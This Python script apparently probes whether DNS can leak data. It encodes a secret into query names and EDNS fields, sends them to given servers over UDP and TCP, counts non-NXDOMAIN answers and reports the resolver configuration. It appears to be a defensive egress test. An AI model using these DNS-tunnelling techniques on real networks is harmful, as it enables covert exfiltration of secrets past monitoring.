# Asks for names that carry a secret, of every kind and in every way, at each server of the arguments
# after it. Tells how many questions were answered with anything but that there is no such name.

first, second, *servers = sys.argv[1:]
secret = first + second
names = [
    secret + ".tunnel.example.net", secret.upper() + ".TUNNEL.example.net", "a." * 40 + secret + ".example.net",
    secret + "." + "x" * 63 + "." + "y" * 63 + ".net", secret, secret + ".internal", secret + ".example.net.",
    secret + ".in-addr.arpa", "_acme." + secret + ".org", secret + ".allowed.example.evil.net",
]
def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.rstrip(".").split("."))
    return b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)
def over_udp(server, message):
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(message, (server, 53))
    return s.recv(4096)
def over_tcp(server, message):
    s = socket.create_connection((server, 53), 2)
    s.sendall(struct.pack("!H", len(message)) + message)
    length = struct.unpack("!H", s.recv(2, socket.MSG_WAITALL))[0]
    return s.recv(length, socket.MSG_WAITALL)
asked, wrong, silent = 0, [], 0
for server in servers:
    for name in names:
        for kind in (1, 5, 10, 12, 16, 28, 65, 255):
            for way in (over_udp, over_tcp):
                asked += 1
                answer = attempt(way, server, question(name, kind))
                if not isinstance(answer, bytes) or len(answer) < 12:
                    silent += 1
                elif answer[3] & 15 not in (3, 5) or answer[6:8] != b"\0\0":
                    wrong.append([server, name, kind])
# A question whose rest carries the secret: after the end, in an additional record, in its flags.
for tail in (secret.encode(), b"\0\0\x29\x10\0\0\0\0\0\0\x20\xfd\xe9\0\x1c" + secret.encode()):
    for server in servers[:1]:
        message = bytearray(question("also." + "allowed.example", 1) + tail)
        message[11] = 1
        attempt(over_udp, server, bytes(message))
        asked += 1
libc.getaddrinfo(secret.encode() + b".example.net", None, None, ctypes.byref(ctypes.c_void_p()))
tell({"asked": asked, "wrong": wrong, "silent": silent, "resolver": open("/etc/resolv.conf").read()})
